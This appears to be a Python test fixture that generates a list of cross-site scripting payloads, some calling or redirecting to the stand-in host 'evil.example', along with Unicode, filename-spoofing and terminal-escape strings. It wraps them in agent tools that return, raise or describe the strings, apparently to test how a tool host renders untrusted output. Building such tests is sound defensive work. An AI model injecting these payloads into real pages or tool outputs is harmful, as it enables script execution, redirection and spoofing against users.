"""Texts that would run in a browser, or keep it busy, if a page took them for more than text, and tools with them."""

import json

RUN = ("alert(1)", "top.location='//evil.example'", "fetch('//evil.example')", "document.write('x')")
# Each is written around each script above.
FRAMES = (
    "<script>{}</script>",
    '<img src=x onerror="{}">',
    '<svg onload="{}"></svg>',
    "<svg><script>{}</script></svg>",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<a href="javascript:{}">a</a>',
    '<details open ontoggle="{}">',
    '<body onload="{}">',
    '<math><mtext></mtext><mglyph><style><img src=x onerror="{}">',
    "</script><script>{}</script>",
    "</textarea><script>{}</script>",
    "</pre><script>{}</script>",
    '"><script>{}</script>',
    "' autofocus onfocus='{}",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "[a](javascript:{}) **x**",
    "![a](javascript:{})",
    '**x** <object data="javascript:{}">',
    '{{{{constructor.constructor("{}")()}}}}',
    "<template><script>{}</script></template>",
    '<form action="javascript:{}"><button>a</button></form>',
    '<link rel=stylesheet href="javascript:{}">',
)
OTHERS = (
    "\u202egnp.exe",
    "\u2066a\u2069",
    "\x1b[2J\x1b[31m",
    "\x00\x01\x02",
    "\ufeff",
    "\u200b" * 50,
    "e" + "\u0301" * 2000,
    "🏳️\u200d🌈" * 500,
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<style>*{display:none}</style>",
    "data:text/html,<script>alert(1)</script>",
)
TEXTS = tuple(frame.format(script) for frame in FRAMES for script in RUN) + OTHERS
TOOLS = f'''
import json
from typing import Annotated, Any
from pydantic import Field
from sidecall import ToolException, tool

TEXTS = json.loads({json.dumps(json.dumps(TEXTS))})

@tool
async def answer_all() -> list[dict[str, Any]]:
    """Answer with each."""
    return [{{"type": "text", "text": text}} for text in TEXTS]

@tool(response_format="content_and_artifact")
async def give_all() -> tuple[str, Any]:
    """Give all as an artifact, as members and as their names."""
    return "given", {{"texts": TEXTS, "names": {{text: text for text in TEXTS}}}}

@tool
async def fail_all() -> str:
    """Fail with all of them."""
    raise ToolException("\\n".join(TEXTS))

@tool(description="\\n".join(TEXTS)[:9000], requires_approval=True, tags=["<b>tag</b>"])
async def described(
    text: Annotated[str, Field(description="\\n".join(TEXTS)[:9000], examples=TEXTS)] = TEXTS[0],
) -> str:
    """Say it."""
    return text

@tool
async def answer_deep(levels: int) -> str:
    """Answer with lists in lists.

    Args:
        levels: How many.
    """
    return "[" * levels + "]" * levels

@tool
async def answer_long(size: int, piece: str) -> str:
    """Answer with a long text.

    Args:
        size: How long.
        piece: Of what.
    """
    return (piece * (size // len(piece) + 1))[:size]
'''
